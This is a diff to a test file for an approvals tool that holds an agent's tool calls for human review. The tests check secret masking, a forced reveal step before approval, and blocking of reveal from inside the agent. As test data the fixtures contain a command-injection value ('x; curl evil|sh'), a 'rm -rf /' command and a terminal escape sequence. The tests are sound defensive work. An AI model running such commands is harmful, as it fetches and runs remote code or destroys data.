@@ -59,7 +59,13 @@ test("list shows what waits, oldest first, with secrets masked and nothing that 
       status: "pending",
       server: "files",
       tool: "write",
-      arguments: { path: "/tmp/a\u001b]52;c;x\u0007", headers: { Authorization: "[redacted]" }, n: 1 },
+      arguments: {
+        path: "/tmp/a\u001b]52;c;x\u0007",
+        headers: {
+          Authorization: expect.stringMatching(/^Bearer \[redacted bearer token, 16 chars, #[0-9a-f]{8}\]$/),
+        },
+        n: 1,
+      },
       rule: "writes",
       risk: "medium",
       session: scene.session.id,
@@ -100,6 +106,38 @@ test("show --reveal shows secrets and is written down", async () => {
   expect(audit.stdout).toContain("approval_revealed");
   expect(audit.stdout).toContain(id);
   await scene.caller.cancel(id, "done");
+});
+
+test("a yes to a payload under a secret's name waits for show --reveal, whatever comes with it [S-62, S-63]", async () => {
+  const { id } = await scene.ask({ argsText: `{"api_key":"x; curl evil|sh"}` });
+  const listed = JSON.parse((await place.run("approvals", "list", "--json")).stdout)[0];
+  expect(listed.arguments.api_key).toMatch(
+    /^\[redacted string, 15 chars, #[0-9a-f]{8}, odd: blanks; shell characters\]$/,
+  );
+  expect(listed.oddlyMasked).toEqual(["blanks", "shell characters"]);
+  expect((await place.run("approvals", "list")).stdout).toContain("? waiting, reveal first");
+  expect((await place.run("approvals", "show", id)).stdout).toContain(`show ${id} --reveal`);
+  const args = path.join(place.home, "edited.json");
+  await writeFile(args, `{"api_key":"abc"}`);
+  for (const more of [[], ["--args", args], ["--grant", "tool"], ["--json"]]) {
+    const refused = await place.run("approvals", "approve", id, ...more);
+    expect(refused).toMatchObject({ status: 9, stdout: "" });
+    expect(refused.stderr).toContain(`preloop approvals show ${id} --reveal`);
+  }
+  expect((await place.run("audit", "list", "--json")).stdout).toMatch(/decision_refused.*odd for a secret/);
+  expect(await insideAgent("approvals", "show", id, "--reveal")).toMatchObject({ status: 9 });
+  expect(await place.run("approvals", "approve", id)).toMatchObject({ status: 9 });
+  const revealed = (await place.run("approvals", "show", id, "--reveal")).stdout;
+  expect(revealed).toContain("x; curl evil|sh");
+  expect((await place.run("approvals", "show", id)).stdout).not.toContain("--reveal");
+  expect(await place.run("approvals", "approve", id)).toMatchObject({ status: 0 });
+  await scene.caller.cancel(id, "done");
+});
+
+test("a no to it needs no reveal [S-63]", async () => {
+  const { id } = await scene.ask({ argsText: `{"token":{"cmd":"rm -rf /"}}` });
+  expect((await place.run("approvals", "show", id)).stdout).toMatch(/"cmd": "\[redacted string, 8 chars/);
+  expect(await place.run("approvals", "deny", id, "--reason", "no")).toMatchObject({ status: 0 });
 });
 
 test("approve lets a call run, and a second decision exits with 4 and says who was first", async () => {
